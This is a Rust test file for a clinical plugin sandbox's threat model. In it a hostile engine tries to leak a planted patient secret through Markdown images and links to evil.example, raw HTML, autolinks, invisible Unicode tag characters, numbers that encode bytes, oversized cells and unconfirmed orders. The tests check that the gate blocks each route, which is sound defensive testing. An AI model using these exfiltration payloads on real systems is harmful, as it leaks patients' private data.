//! The attacks of the threat model that begin after a run: whatever an attacker answers, it leaves through the gate. The
//! attacker stands in the place of the engine; it reads the secret in its view and puts it where it can.

use cordon_core::manifest::CardMode;
use cordon_core::message::{
    Advice, Answer, Asked, CardText, Filled, Indicator, RunEnd, RunMessage, RunReply, Said, SlotValue, Suggested,
};
use cordon_ni::cells::Cells;
use cordon_ni::hostile::{Hostile, answers, entry, rows, ways_out};
use cordon_ni::run::{Observed, run_with};
use cordon_ni::world::{PATIENT, World};
use pulldown_cmark::{Event, Options, Parser, Tag, TextMergeStream};
use serde_json::{Value, json};

use crate::attacks::attacks;
use crate::threats::{PLANTED, plain, planted, sends, signed_cards};

/// A birth date: what left in a measured run through icons, images and HTML.
const BORN: &str = "1948-07-19";

/// A plugin with every way out and cards of its own text; the record holds the secret as a unit, and a birth date.
pub(crate) fn armed() -> World {
    let mut world = plain();
    world.manifest.cards.mode = CardMode::Text;
    ways_out(&mut world);
    sends(&mut world, "labs", vec![planted(PATIENT)]);
    let patient = json!({ "resourceType": "Patient", "id": PATIENT, "gender": "female", "birthDate": BORN });
    sends(&mut world, "patient", vec![patient]);
    world
}

/// What the attacker reads in its view.
pub(crate) fn stolen(message: &RunMessage) -> String {
    rows(message, "labs")[0]["valueQuantity"]["unit"].as_str().unwrap().to_owned()
}

pub(crate) fn attacked(world: &World, attack: fn(&str, &RunMessage) -> RunReply) -> Observed {
    run_with(world, &Hostile(|message: &RunMessage| attack(&stolen(message), message)), &Cells::default()).unwrap()
}

fn writes(detail: String) -> RunReply {
    answers(vec![Advice::free("Note", Some(detail), Indicator::Info)])
}

fn suggests(action: Asked) -> RunReply {
    let suggested = Suggested { label: None, recommended: false, actions: vec![action] };
    answers(vec![Advice { suggestions: vec![suggested], ..Advice::free("Note", None, Indicator::Info) }])
}

fn fills(name: &str, slot: &str, value: SlotValue) -> Filled {
    Filled { name: name.to_owned(), slots: vec![(slot.to_owned(), value)] }
}

/// The part of the answer at this pointer (RFC 6901), as text; empty when nothing left.
pub(crate) fn left(seen: &Observed, at: &str) -> String {
    let body: Value = seen.body.as_deref().map_or(Value::Null, |body| serde_json::from_slice(body).unwrap());
    body.pointer(at).map(|part| part.as_str().map_or(part.to_string(), str::to_owned)).unwrap_or_default()
}

/// Whether a reader of CommonMark with GFM finds a link, an image or HTML with the secret in it.
fn is_active(seen: &Observed) -> bool {
    is_active_with(seen, PLANTED)
}

pub(crate) fn is_active_with(seen: &Observed, secret: &str) -> bool {
    let detail = left(seen, "/cards/0/detail");
    let carries = |event: Event<'_>| {
        if let Event::Start(Tag::Link { dest_url, title, .. } | Tag::Image { dest_url, title, .. }) = &event {
            return dest_url.contains(secret) || title.contains(secret);
        }
        if let Event::Html(html) | Event::InlineHtml(html) = &event {
            return html.contains(secret);
        }
        matches!(&event, Event::Text(text) if is_autolinked(text, secret))
    };
    TextMergeStream::new(Parser::new_ext(&detail, Options::all())).any(carries)
}

/// Whether a word of this text is a link to a careless reader, with the secret in it.
pub(crate) fn is_autolinked(text: &str, secret: &str) -> bool {
    text.split_whitespace().any(|word| is_autolink(word) && word.contains(secret))
}

/// GFM 0.29, section 6.9: what becomes a link without any mark.
fn is_autolink(word: &str) -> bool {
    let starts = |with: &str| word.to_ascii_lowercase().starts_with(with);
    let mail = word.split_once('@').is_some_and(|(who, host)| !who.is_empty() && host.contains('.'));
    ["www.", "http://", "https://", "mailto:", "xmpp:"].into_iter().any(starts) || mail
}

/// What is written in tag characters, one for each byte.
pub(crate) fn unseen(text: &str) -> String {
    let tags = text.chars().filter_map(|c| u32::from(c).checked_sub(0xe_0000).and_then(char::from_u32));
    tags.filter(char::is_ascii).collect()
}

fn in_tags(secret: &str) -> String {
    secret.bytes().filter_map(|byte| char::from_u32(0xe_0000 + u32::from(byte))).collect()
}

/// The first six bytes of the secret as one number.
fn as_number(secret: &str) -> u64 {
    secret.bytes().take(6).fold(0, |number, byte| (number << 8) | u64::from(byte))
}

attacks! {
    sk_01_an_image_with_data_in_its_address without ProfileOff => || {
        is_active(&attacked(&armed(), |secret, _| writes(format!("![x](https://evil.example/?d={secret})"))))
    };
    sk_02_an_image_by_reference without ProfileOff => || {
        is_active(&attacked(&armed(), |secret, _| writes(format!("![x][y]\n\n[y]: https://evil.example/?d={secret}"))))
    };
    sk_03_a_link_without_marks without ProfileOff => || {
        is_active(&attacked(&armed(), |secret, _| writes(format!("See www.evil.example/{secret} now"))))
    };
    sk_03_a_mail_address without ProfileOff => || {
        is_active(&attacked(&armed(), |secret, _| writes(format!("Ask <{secret}@evil.example>"))))
    };
    sk_04_a_tag without ProfileOff => || {
        is_active(&attacked(&armed(), |secret, _| writes(format!("<img src=\"https://evil.example/{secret}\">"))))
    };
    sk_05_a_link_that_leads_outside without LinkUngranted => || {
        left(&attacked(&armed(), |_, _| writes(String::new())), "/cards/0/links/0/url").contains(PLANTED)
    };
    sk_06_a_source_that_leads_outside without LinkUngranted => || {
        left(&attacked(&armed(), |_, _| writes(String::new())), "/cards/0/source/url").contains(PLANTED)
    };
    // The hospital granted the link, so the publisher's app is behind it.
    sk_07_a_text_for_the_publisher_s_app without AppContextSent => || {
        let mut world = armed();
        world.grant.powers.external_link = true;
        let seen = attacked(&world, |secret, _| {
            answers(vec![Advice::free(secret.to_owned(), None, Indicator::Info)])
        });
        assert!(left(&seen, "/cards/0/links/0/url").starts_with("https://"), "{seen:?}");
        left(&seen, "/cards/0/links/0/appContext").contains(PLANTED)
    };
    sk_08_a_link_that_opens_without_a_click without AutolaunchKept => || {
        let mut world = armed();
        world.grant.powers.external_link = true;
        let seen = attacked(&world, |_, _| writes(String::new()));
        let link = left(&seen, "/cards/0/links/0");
        link.contains("autolaunchable") && link.contains(PLANTED)
    };
    sk_09_an_order_that_nobody_confirms without ActionUngranted => || {
        let seen = attacked(&armed(), |secret, _| {
            let told = fills("acts", "told", SlotValue::Code(secret.to_owned()));
            let answer = Answer { cards: Vec::new(), system_actions: vec![Asked::Create(told)] };
            RunReply::new(RunEnd::Answered(answer), 1)
        });
        left(&seen, "/systemActions").contains(PLANTED)
    };
    sk_09_words_of_the_record_in_an_order without LibertyUngranted => || {
        let seen = attacked(&armed(), |_, message| {
            let row = rows(message, "patient")[0]["id"].as_str().unwrap().to_owned();
            suggests(Asked::Create(fills("copies", "copied", SlotValue::Row(row))))
        });
        left(&seen, "/cards/0/suggestions/0/actions/0/resource").contains(BORN)
    };
    sk_09_words_for_the_patient_in_an_order without LibertyUngranted => || {
        let seen = attacked(&armed(), |secret, _| {
            suggests(Asked::Create(fills("instructs", "told", SlotValue::Code(secret.to_owned()))))
        });
        left(&seen, "/cards/0/suggestions/0/actions/0/resource").contains(PLANTED)
    };
    sk_10_an_id_that_the_plugin_chose without IdChosen => || {
        let seen = attacked(&armed(), |secret, _| suggests(Asked::Delete(secret.to_owned())));
        left(&seen, "/cards/0/suggestions/0/actions/0/resourceId").contains(PLANTED)
    };
    sk_11_what_nobody_sees_in_a_text without ProfileOff => || {
        let seen = attacked(&armed(), |secret, _| writes(format!("Plain.{}", in_tags(secret))));
        unseen(&left(&seen, "/cards/0/detail")).contains(PLANTED)
    };
    sk_11_what_nobody_sees_in_a_summary without ProfileOff => || {
        let seen = attacked(&armed(), |secret, _| {
            answers(vec![Advice::free(format!("Plain{}", in_tags(secret)), None, Indicator::Info)])
        });
        unseen(&left(&seen, "/cards/0/summary")).contains(PLANTED)
    };
    sk_13_a_text_in_the_numbers_of_a_note without NoteUnlisted => || {
        let seen = attacked(&armed(), |secret, _| {
            let spelled = Said { event: 999, arguments: secret.bytes().map(u32::from).collect() };
            RunReply { notes: vec![spelled], ..answers(Vec::new()) }
        });
        let letters = seen.notes.iter().flat_map(|note| &note.arguments).filter_map(|number| char::from_u32(*number));
        letters.collect::<String>().contains(PLANTED)
    };
    sk_13_a_larger_number_than_a_note_has without NoteUnlisted => || {
        let seen = attacked(&armed(), |secret, _| {
            let wide = Said { event: 7, arguments: vec![u32::try_from(as_number(secret) >> 16).unwrap()] };
            RunReply { notes: vec![wide], ..answers(Vec::new()) }
        });
        seen.notes.iter().flat_map(|note| &note.arguments).any(|number| number.to_be_bytes() == *b"plan")
    };
    sk_21_a_cell_that_is_larger_than_it_says without CellUnbounded => || {
        let seen = attacked(&armed(), |secret, _| {
            let bytes = [vec![0; 64], secret.as_bytes().to_vec()].concat();
            RunReply { cells: [(entry("small"), Some(bytes))].into(), ..answers(Vec::new()) }
        });
        let beyond = |bytes: &Vec<u8>| bytes.get(64..).is_some_and(|rest| rest == PLANTED.as_bytes());
        seen.written.iter().filter_map(|write| write.bytes.as_ref()).any(beyond)
    };
    // A number has room for more than it is read as.
    cv_12_digits_that_spell_something without SlotUnbounded => || {
        let seen = attacked(&signed_cards(armed()), |secret, _| {
            #[expect(clippy::cast_precision_loss, reason = "48 bits")]
            let value = SlotValue::Number(as_number(secret) as f64);
            let text = CardText::Template(fills("told", "value", value));
            answers(vec![Advice { text, ..Advice::free("", None, Indicator::Info) }])
        });
        left(&seen, "/cards/0/summary").contains(&as_number(PLANTED).to_string())
    };
    cv_12_words_where_the_publisher_signed_others without TemplateIgnored => || {
        let seen = attacked(&signed_cards(armed()), |secret, _| writes(secret.to_owned()));
        left(&seen, "/cards/0/detail").contains(PLANTED)
    };
}

#[test]
fn what_the_attacks_plant_leaves_where_it_may() {
    let _whole = cordon_faults::without(None);
    let card = attacked(&armed(), |secret, _| writes(secret.to_owned()));
    assert!(left(&card, "/cards/0/detail").starts_with(PLANTED), "plain words of a text card: {card:?}");
    let cell = attacked(&armed(), |secret, _| RunReply {
        cells: [(entry("small"), Some(secret.as_bytes().to_vec()))].into(),
        ..answers(Vec::new())
    });
    assert_eq!(cell.written[0].bytes.as_deref(), Some(PLANTED.as_bytes()));
    let noted = Said { event: 7, arguments: vec![1_000] };
    let world = armed();
    let notes = RunReply { notes: vec![noted.clone()], ..answers(Vec::new()) };
    let seen = run_with(&world, &Hostile(|_: &RunMessage| notes.clone()), &Cells::default()).unwrap();
    assert_eq!(seen.notes, [noted]);
}

#[test]
fn what_a_hospital_grants_leaves() {
    let _whole = cordon_faults::without(None);
    let mut world = armed();
    world.grant.powers.external_link = true;
    world.grant.powers.allow = world.manifest.proposals.values().flat_map(|one| one.allow().clone()).collect();
    world.grant.powers.system_actions = ["ServiceRequest".to_owned()].into();
    let seen = attacked(&world, |secret, message| {
        let row = rows(message, "patient")[0]["id"].as_str().unwrap().to_owned();
        let mut reply = suggests(Asked::Create(fills("copies", "copied", SlotValue::Row(row))));
        if let RunEnd::Answered(answer) = &mut reply.end {
            answer.system_actions.push(Asked::Create(fills("acts", "told", SlotValue::Code(secret.to_owned()))));
        }
        reply
    });
    assert!(left(&seen, "/cards/0/links/0/url").contains(PLANTED), "{seen:?}");
    assert!(left(&seen, "/cards/0/source/url").contains(PLANTED));
    assert!(left(&seen, "/cards/0/suggestions/0/actions/0/resource").contains(BORN));
    assert!(left(&seen, "/systemActions/0/resource").contains(PLANTED));
}
